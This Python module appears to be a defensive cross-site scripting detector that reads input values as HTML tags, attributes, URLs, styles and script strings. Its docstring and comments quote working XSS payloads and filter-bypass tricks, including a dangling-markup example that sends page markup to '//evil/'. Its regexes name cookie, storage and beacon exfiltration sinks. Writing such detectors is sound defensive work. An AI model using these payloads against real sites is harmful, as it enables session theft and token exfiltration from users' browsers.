"""Cross-site scripting by structure: the value read as HTML, as an attribute, as a URL and as
JavaScript, the contexts a reflected value lands in.

* **Tags** (HTML context): every `<name ...` is read the way a browser's tokenizer reads a start
  tag (quoted attribute values may hold `>`; `/` separates attributes as white space does:
  `<svg/onload=...>`); a tag is an attack when any of its attributes is an event handler with
  a value (`<input autofocus onfocus=alert(1)>`: the handler need not come first), a URL
  attribute whose value, entity-decoded and with the tabs and line breaks a browser drops
  removed, starts with `javascript:` / `vbscript:` / an HTML or script `data:` URL
  (`jav&#x09;ascript:`), `srcdoc`, or a style with `expression(...)` / a script URL; or when
  the tag is `<script`. Also dangling markup, in a parameter, header, cookie or path (a JSON
  or XML document may carry a page's markup as it is): a URL attribute whose value, on
  another host, runs on over the page's own markup (its quote never closes, or the quoted
  value holds the next tag: `<img src='//evil/?`, `<body background="//evil? <table`), which
  sends that markup, tokens and all, to the remote host.
* **Attributes** (a value reflected inside a tag, quoted or not): an event handler whose value
  is code, after a quote, white space or `/`, wherever in the value
  (`" autofocus onfocus=alert(1) x="`, `onanimationiteration="alert(1)">`).
* **URLs**: a value that is itself a script URL (`javascript:alert(1)`, `data:text/html,...`).
* **Styles**: `expression(...)` after `:` or `=`, CSS comments and escapes removed.
* **JavaScript** (a value reflected inside a script string): a quote, optional closing
  brackets, an operator or `;`, and then a call of a known sink (`';alert(1)//`,
  `"-alert(1)-"`, `"])}catch(e){alert(1)}//`); AngularJS-style client templates that reach
  the Function constructor (`{{constructor.constructor('alert(1)')()}}`).

Benign HTML passes: `<b>`, `<p>`, `<a href="https://...">`, markdown, a lone `<3`.

Linear in the value: tags are read one after the other (each character belongs to one tag),
each regular expression below is a single pass without nested ambiguity, and a long value is
read in overlapping windows (node/detect/windows.py) between which the caller's time bound is
checked.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable

from node.detect.shell import TEXT_KINDS
from node.detect.ssti import expressions
from node.detect.literals import Literals
from node.detect.windows import Gate, judge_windows, normalise

MAX_XSS_LEN = 2048
# field kinds that carry documents and source code, where JSX (`onClick={...}`) is code
CODE_KINDS = TEXT_KINDS
# a script URL in a path segment: its scheme within this many characters of the segment's start
MAX_SCHEME_OFFSET = 96
# a start tag: `<` and a letter, then attribute text (quoted strings may hold `<` and `>`) up
# to `>`, the next `<` or the end. The alternatives start with disjoint characters, so there is
# no ambiguity to backtrack over; an unclosed quote scans to the end once per quote character
# (after it there is no such quote left)
_TAG_RE = re.compile(r"""<([a-z][^\s/<>"'=]*)((?:"[^"]*"|'[^']*'|[^<>"'])*)""", re.I)
# one attribute of a tag's text: name, and value (quoted or not); a quoted string where a name
# should be is skipped whole (JSON text after a stray `<x`)
_ATTR_RE = re.compile(r""""[^"]*"|'[^']*'|([^\s"'<>/=]+)(?:\s*=\s*("[^"]*"|'[^']*'|`[^`]*`|[^\s>]*))?""")
_HANDLER_NAME_RE = re.compile(r"on[a-z]{3,40}", re.I)
_URL_ATTRS = frozenset(
    "href src action formaction data codebase background dynsrc lowsrc poster xlink:href "
    "values to from by content ping cite longdesc profile usemap classid archive icon manifest "
    "srcset imagesrc itemtype".split()
)
_SCRIPT_TAGS = frozenset({"script", "svg:script"})
_QUOTES = ("'", '"')
# a URL on another host: a scheme and `//`, or protocol-relative
_REMOTE_URL_RE = re.compile(r"\s*(?:[a-z][a-z0-9+.\-]*:)?//[^\s/?#<>\"']", re.I)
# the attribute name at the end of a tag's text (before its `=`)
_ATTR_NAME_END_RE = re.compile(r"[^\s\"'<>/=]+\Z")
# schemes that run script; data: URLs of documents and scripts
_SCRIPT_URL_RE = re.compile(
    r"(?:java|vb|live|j)script:|data:(?:text/html|text/xml|application/(?:x-)?(?:xhtml|javascript|ecmascript|xml)|"
    r"image/svg|text/(?:java|ecma|vb)script)",
)
# what a browser ignores in a URL's scheme: leading controls and spaces, tabs and line breaks anywhere
_URL_JUNK_RE = re.compile(r"[\t\n\r]+")
_URL_LEAD = "".join(map(chr, range(0x21)))
# what such a URL starts with once its lead is dropped: a scheme's first letter, or an entity
# (a browser decodes an attribute's entities first: `&#106;avascript:`)
_SCHEME_STARTS = frozenset("jJvVlLdD&")
# `javascript:` URLs that do nothing (links that only exist for their click handler)
_NOOP_SCRIPT_RE = re.compile(r"\s*(?:void\s*\(?\s*0\s*\)?|;|//|return\s+false|false|true|undefined|null)?\s*;?\s*$", re.I)
# what a script URL's code has and a title such as "JavaScript: the good parts" has not
_SCRIPT_CODE_RE = re.compile(r"[(`=\[\\]|/\*|//")
_STYLE_RE = re.compile(r"[:=]\s*expression\s*\(|-moz-binding\s*:|behavior\s*:\s*url|url\s*\(\s*['\"]?\s*(?:java|vb)script:", re.I)
_SINKS = (
    "alert|prompt|confirm|eval|print|fetch|import|settimeout|setinterval|execscript|function|"
    "atob|open|write|writeln|fromcharcode|msgbox|importscripts|postmessage|xmlhttprequest"
)
# JS context: a quote (closing the string the value sits in), closing brackets, an operator
# (no optional backslash before the quote: only the match's end is used, and a class first
# lets the scan jump from quote to quote)
_JS_BREAKOUT_RE = re.compile(r"""["'`][\s)\]}]*(?:[;,+\-*/|&^%<>=?:]|\}\s*catch\b)""")
# what script injected to steal reads or sends: the page's stores and the browser's senders
# (`navigator.sendBeacon(u, localStorage.token)`, `new WebSocket(u)`); words no prose is made of
_EXFILTRATION_STARTS = ("localstorage", "sessionstorage", "indexeddb", "navigator", "sendbeacon")
# the words a _JS_SINK_RE match starts with (lower case)
_JS_SINK_STARTS = (*_SINKS.split("|"), "document", "window", "self", "top", "parent", "globalthis", "this",
                   "constructor", "new", "location", *_EXFILTRATION_STARTS)
# the code after a breakout: a sink call of a known name (not any call: prose has "(see x)")
_JS_SINK_RE = re.compile(
    rf"(?<![\w$])(?:{_SINKS})\s*\)?\s*(?:\?\.\s*)?(?:\(|`)|"
    r"\b(?:document|window|self|top|parent|globalthis|this)\s*\.\s*(?:cookie|domain|location|write|open|name)\b|"
    r"\b(?:window|self|top|parent|this|globalthis)\s*\[|\bconstructor\s*\.\s*constructor\b|\bnew\s+function\b|"
    # navigation to attacker text: location=name (window.name carries the payload)
    r"(?<![\w$])(?:(?:document|window|self|top|parent)\s*\.\s*)?location(?:\s*\.\s*href)?\s*=(?!=)|"
    r"\b(?:localstorage|sessionstorage)\s*(?:\.\s*\w|\[)|\bindexeddb\s*\.\s*open\b|"
    r"\b(?:navigator\s*\.\s*)?sendbeacon\s*\(|\bnew\s+(?:websocket|eventsource|image|worker|sharedworker)\b",
    re.I,
)
# the DOM's event names (by prefix where families share one): outside a tag, `onsale=(x)` in a
# cookie or a query string must not count, the browser's events do
_EVENTS = (
    "abort|activate|after|animation|auxclick|before|begin|blur|bounce|cancel|canplay|change|click|close|"
    "content|context|copy|cue|cut|dblclick|deactivate|drag|drop|duration|emptied|end|error|finish|"
    "focus|formdata|fullscreen|gesture|hashchange|help|input|invalid|key|load|lose|message|mouse|"
    "move|offline|online|page|paste|pause|play|pointer|popstate|progress|property|ratechange|"
    "readystatechange|repeat|reset|resize|row|scroll|search|seek|select|show|slotchange|stalled|start|"
    "storage|submit|suspend|timeupdate|toggle|touch|transition|unhandledrejection|unload|"
    "volumechange|waiting|webkit|wheel|zoom|securitypolicyviolation|visibilitychange"
)
# (a name checked after a match: the alternation inside the scan cost ~200 ns a character)
_EVENT_RE = re.compile(rf"on(?:{_EVENTS})", re.I)
# an attribute in a reflected value: a handler after a quote, white space or `/` (or the start)
# whose value is code (a call, a template literal, an assignment: `(`, a backtick or `=`), so that
# `onload=x onload=y ...` costs no Python step per handler
_ATTR_HANDLER_RE = re.compile(
    r"""(?:^|[\s/"'`;])(on[a-z]{3,40})\s*=\s*"""
    r"""("[^"(`=]*[(`=][^"]*"?|'[^'(`=]*[(`=][^']*'?|`[^`]*`?|[^\s>"'(`=]*[(`=][^\s>]*)""", re.I)
# what any _ATTR_HANDLER_RE match holds: a search without its leading alternation, which keeps
# sre from skipping ahead (one step per character instead of a jump to each `on`)
_HANDLER_HINT_RE = re.compile(r"on[a-z]{3,40}\s*=", re.I)
# AngularJS / Vue expressions that reach the Function constructor or the scope's evaluator
_CLIENT_TEMPLATE_RE = re.compile(r"\bconstructor\b|\$eval\b|\$on\b|\$emit\b|\[\s*['\"]constructor|__proto__|\bon\w+\s*\(", re.I)
_SCHEME_HINT_RE = re.compile(r"script\s*:|data\s*:", re.I)
# a tag, for the reading with tags deleted
_TAG_STRIP_RE = re.compile(r"<[^<>]*>")
# the case mappings that make non-ASCII letters ASCII ones (a backend that upper- or lower-cases
# `<ſcrİpt>` before the browser sees it); lower() already made İ into i + a combining dot
_ASCII_FOLDS = str.maketrans({"\u0307": None, "ı": "i", "ſ": "s", "\u212a": "k"})
# JavaScript injected where code is expected (no quote to close): a sink called on the DOM or on
# decoded text, a property of window reached through brackets and called
_JS_CALL_RE = re.compile(
    r"(?<![\w$.])(?:alert|prompt|confirm|eval|settimeout|setinterval|execscript)\s*(?:\?\.\s*)?\(\s*"
    r"(?:document\s*(?:\?\.|\.)|window\s*\.|string\s*\.\s*fromcharcode|atob\s*\(|top\s*\[|self\s*\[)|"
    r"\b(?:window|self|top|parent|globalthis|frames)\s*\[[^\]\n]{1,200}\]\s*\(",
    re.I,
)
# the words a _JS_CALL_RE match starts with: a sink called on the DOM, or a global object
# indexed (that second form needs a `[`)
_JS_CALL_SINKS = ("alert", "prompt", "confirm", "eval", "settimeout", "setinterval", "execscript")
_JS_CALL_GLOBALS = ("window", "self", "top", "parent", "globalthis", "frames")
_JS_CALL_STARTS = (*_JS_CALL_SINKS, *_JS_CALL_GLOBALS)
_JS_CALL_LITERALS = Literals(_JS_CALL_STARTS)
# words without which _STYLE_RE cannot match once comments and backslashes are gone
_STYLE_LITERALS = Literals(["expression", "binding", "behavior", "script:", "/*"])
_QUICK_RE = re.compile(r"<[a-z/]|on[a-z]{3}|script:|data:|expression|binding|behavior|\{\{|\$\{|/\*|[\"'`&]", re.I)


def detect_xss(value: str, kind: str = "query", out_of_time: Callable[[], bool] | None = None,
               gate: Gate | None = None) -> str | None:
    """A rule name if `value` is cross-site scripting in one of the contexts above, else None
    (also when `out_of_time()` stopped the windows of a long value)."""
    text = normalise(value)
    if len(text) < 4:
        return None
    return judge_windows(text, MAX_XSS_LEN, lambda window, start, _owned: _detect_window(window, start == 0, kind),
                         out_of_time, gate)


def _detect_window(text: str, value_start: bool, kind: str = "query") -> str | None:
    # a quote or '&' is a _QUICK_RE match: found by memchr, where the regex tries its twelve
    # alternatives at each character up to it
    if not ('"' in text or "'" in text or "`" in text or "&" in text) and _QUICK_RE.search(text) is None:
        return None
    low = text.lower()
    html_like = kind not in CODE_KINDS
    # a tag matters for its attributes (an `=`) or for being a script tag: without either in
    # the window the tag walk (a Python step per tag) is skipped
    if "<" in text and ("=" in text or "scr" in low or not text.isascii()):
        rule = _tags(text, html_like)
        if rule:
            return rule
        if ">" in text:
            # a filter that deletes tags makes `<</div>script>` a script tag and `o<x>nerror=`
            # a handler: the value is also read with its tags deleted
            stripped = _TAG_STRIP_RE.sub("", text)
            if stripped != text:
                rule = _tags(stripped, html_like) or _attribute_handler(stripped, html_like)
                if rule:
                    return rule + "-stripped"
    if "on" in low:
        rule = _attribute_handler(text, html_like)
        if rule:
            return rule
    if html_like and "(" in text and _JS_CALL_LITERALS.any_in(low) and _js_call(text, low):
        return "js-call"
    if value_start and _script_url(text):
        return "script-url"
    if kind == "path" and _script_url_in_path(text):
        return "script-url-path"
    if _STYLE_LITERALS.any_in(low):
        if _STYLE_RE.search(_strip_css_comments(text).replace("\\", "")):
            return "style-expression"
    if "{{" in text or "${" in text:
        for opener, body in expressions(text):
            if opener == "{{" and _CLIENT_TEMPLATE_RE.search(body):
                return "client-template"
            if opener == "${" and _JS_SINK_RE.search(body):
                return "template-literal"  # `...${alert(1)}...`: a JavaScript template literal
    return _js_breakout(text)


def _strip_css_comments(text: str) -> str:
    """`text` without its /* ... */ comments (an unclosed one runs to the end). A walk with
    str.find: the usual comment regex restarts at every unclosed `/*`, quadratic on `/*/*/*...`."""
    if "/*" not in text:
        return text
    out = []
    at = 0
    while True:
        start = text.find("/*", at)
        if start < 0:
            out.append(text[at:])
            break
        out.append(text[at:start])
        end = text.find("*/", start + 2)
        if end < 0:
            break
        at = end + 2
    return "".join(out)


def _tags(text: str, jsx_is_html: bool = True) -> str | None:
    """HTML context: each start tag, read once, left to right. `jsx_is_html`: a handler's value
    in braces (`onClick={...}`) counts; not in bodies, where it is JSX source code."""
    for m in _TAG_RE.finditer(text):
        name = m.group(1).lower()
        if not name.isascii():
            name = name.translate(_ASCII_FOLDS)
        attrs = m.group(2)
        if name not in _SCRIPT_TAGS and "script" in name and name.replace("script", "", 1) in _SCRIPT_TAGS:
            return "script-tag-split"  # <scrscriptipt>: a filter that deletes "script" once
        if name in _SCRIPT_TAGS and (text[m.end() : m.end() + 1] == ">" or "=" in attrs or not attrs.strip()):
            if "=" in attrs or not _inert_script_body(text, m.end() + 1):
                return "script-tag"  # `<script>alert(1)`, `<script src=...`, or `<script` ending the value
            continue
        if "=" not in attrs:
            continue
        if jsx_is_html and text[m.end() : m.end() + 1] in _QUOTES and _dangling_url(text, m.end(), attrs):
            return "tag-dangling-url"  # <img src='//evil/? with no closing quote: the rest of the page
        for a in _ATTR_RE.finditer(attrs):
            raw_value = a.group(2)
            if raw_value is None:
                continue
            attr = a.group(1).lower()
            value = _unquote(raw_value)
            if _HANDLER_NAME_RE.fullmatch(attr):
                if value.strip() and (jsx_is_html or not value.startswith("{")):
                    return "tag-handler"
            elif _url_attr(attr):
                if _is_script_url(value) or (attr == "content" and _refresh_to_script(value)):
                    return "tag-script-url"
                if jsx_is_html and raw_value[:1] in _QUOTES and "<" in raw_value and _REMOTE_URL_RE.match(value):
                    return "tag-dangling-url"  # <body background="//evil? <table ...: the page's markup sent away
            elif attr == "srcdoc":
                return "tag-srcdoc"
            elif attr == "style" and _STYLE_RE.search(_strip_css_comments(html.unescape(value)).replace("\\", "")):
                return "tag-style"
    return None


def _url_attr(name: str) -> bool:
    """An attribute (lower case) whose value the browser loads or follows as a URL."""
    return name in _URL_ATTRS or name.endswith(":href")


def _dangling_url(text: str, quote_at: int, attrs: str) -> bool:
    """The tag's text ends at `text[quote_at]`, a quote that no later quote closes, opening the
    value of a URL attribute (`<img src='//evil/?`): reflected, the URL runs on over the page's
    own markup and the browser sends that to the remote host (dangling markup)."""
    if _REMOTE_URL_RE.match(text, quote_at + 1) is None:
        return False
    head = attrs.rstrip()
    if head[-1:] != "=":
        return False
    # the name is short; reading only the tail keeps the search's cost fixed whatever `attrs` is
    name = _ATTR_NAME_END_RE.search(head[:-1].rstrip()[-64:])
    if name is None or not _url_attr(name.group().lower()):
        return False
    return text.find(text[quote_at], quote_at + 1) < 0


def _inert_script_body(text: str, start: int) -> bool:
    """A bare `<script>` whose script cannot do anything: no `</script>` after it and, up to the
    end of the value, no call, assignment or template (`(`, `=`, a backtick) - prose that names
    the tag ("don't put <script> tags in your bio"). Reflected, such an element swallows the page
    up to its next `</script>` as JavaScript that does not parse, so nothing runs. A `<script>`
    that ends the value is not inert: the text after it is the page's, or another parameter's."""
    rest = text[start:]
    if not rest.strip():
        return False  # `<script>` ending the value: a probe, or the first half of a split payload
    return "(" not in rest and "=" not in rest and "`" not in rest and "</script" not in rest.lower() \
        and "<\\/script" not in rest.lower()


def _unquote(raw: str) -> str:
    if raw[:1] in ("'", '"', "`"):
        return raw[1:-1] if len(raw) > 1 and raw[-1] == raw[0] else raw[1:]
    return raw


def _is_script_url(value: str) -> bool:
    """A URL a browser runs as script, read as the browser reads it: entities decoded (an
    attribute's value is), leading controls and spaces dropped, tabs and line breaks removed
    from anywhere, case ignored."""
    if value.lstrip(_URL_LEAD)[:1] not in _SCHEME_STARTS:
        return False  # an https: or relative URL (nearly all of them), without an entity decoding
    if "&" in value:
        value = html.unescape(value)
    url = _URL_JUNK_RE.sub("", value.lstrip(_URL_LEAD))
    m = _SCRIPT_URL_RE.match(url[:64].lower())
    if m is None:
        return False
    if m.group().endswith("script:"):
        return _NOOP_SCRIPT_RE.match(url, m.end()) is None and _SCRIPT_CODE_RE.search(url, m.end()) is not None
    return True


def _refresh_to_script(content: str) -> bool:
    """<meta http-equiv=refresh content="0;url=javascript:...">"""
    at = content.lower().find("url")
    if at < 0:
        return False
    target = content[at + 3 :].lstrip(" \t\n=")
    return _is_script_url(target.lstrip("'\""))


def _script_url(text: str) -> bool:
    """URL context: the value itself is a script URL (a redirect target, a link)."""
    head = text.lstrip("\"'` \x00")[:256]
    return _is_script_url(head)


def _script_url_in_path(text: str) -> bool:
    """A path segment that is a script URL (`/go/javascript:alert(1)`, a link built from the
    path): each `script:` / `data:` read from the start of its segment."""
    for m in _SCHEME_HINT_RE.finditer(text):
        low = max(0, m.start() - MAX_SCHEME_OFFSET)
        slash = text.rfind("/", low, m.start())  # bounded: each hint costs O(1)
        if slash < 0 and low > 0:
            continue  # the segment starts too far before the scheme to be a URL
        if _is_script_url(text[slash + 1 : m.end() + 256]):
            return True
    return False


def _attribute_handler(text: str, jsx_is_html: bool = True) -> str | None:
    """Attribute context: an event handler whose value is code, anywhere in the value."""
    if "=" not in text or _HANDLER_HINT_RE.search(text) is None:  # (the hint holds an '=': a memchr first)
        return None
    for m in _ATTR_HANDLER_RE.finditer(text):
        value = _unquote(m.group(2))
        if _EVENT_RE.match(m.group(1)) and (jsx_is_html or not value.startswith("{")):
            return "attribute-handler"
    return None


def _js_breakout(text: str) -> str | None:
    """JavaScript context: the value closes the string it sits in and calls a sink."""
    m = _JS_BREAKOUT_RE.search(text)
    while m is not None and text[m.end() - 1 : m.end() + 1] == "?>":
        # `"?>` ends an XML declaration or a processing instruction (`encoding="UTF-8"?>`):
        # `?` then `>` is no JavaScript, so no break-out; the next quote may be one
        m = _JS_BREAKOUT_RE.search(text, m.end() + 1)
    if m is None:
        return None  # only the first break-out matters: later quotes are the payload's own strings
    return "js-breakout" if _sink_after(text, m.end()) else None


# the only characters that re.I matches with an ASCII letter (İ, ı, ſ, the Kelvin sign), İ also
# the only one whose lower() is longer (two characters: positions after it would shift)
_FOLDING_CHARS_RE = re.compile("[\u0130\u0131\u017f\u212a]")


def _sink_after(text: str, end: int) -> bool:
    """_JS_SINK_RE.search(text, end, end + 256), tried only where one of _JS_SINK_STARTS is
    (its scan costs ~170 ns a character: a lookbehind and a case-blind alternation at each)."""
    stop = end + 256
    return _found_at_words(_JS_SINK_RE, text, _JS_SINK_STARTS, end, stop)


def _js_call(text: str, low: str) -> bool:
    """_JS_CALL_RE.search(text), tried only where one of its first words is (its scan costs
    ~50 µs on a 2 KB window of JSON, where `top` and `self` are parts of words); the form that
    indexes a global object needs a `[`. `low`: text.lower()."""
    words = _JS_CALL_STARTS if "[" in text else _JS_CALL_SINKS
    return _found_at_words(_JS_CALL_RE, text, words, 0, len(text), low)


def _found_at_words(pattern: re.Pattern[str], text: str, words: tuple[str, ...], start: int, stop: int,
                    low: str | None = None) -> bool:
    """pattern.search(text, start, stop) is not None, for a case-blind pattern every match of
    which starts with one of `words` (lower case): the pattern is matched only where a word is
    (str.find on the lower-cased text). That holds on any text without a _FOLDING_CHARS_RE
    character: there every match starts with ASCII letters, and lower() keeps every position
    in place. `low`: text.lower(), when the caller has it."""
    part = text[start:stop]
    if not part.isascii() and _FOLDING_CHARS_RE.search(part):
        return pattern.search(text, start, stop) is not None
    low = part.lower() if low is None else low[start:stop]
    for word in words:
        at = low.find(word)
        while at >= 0:
            if pattern.match(text, start + at, stop):
                return True
            at = low.find(word, at + 1)
    return False
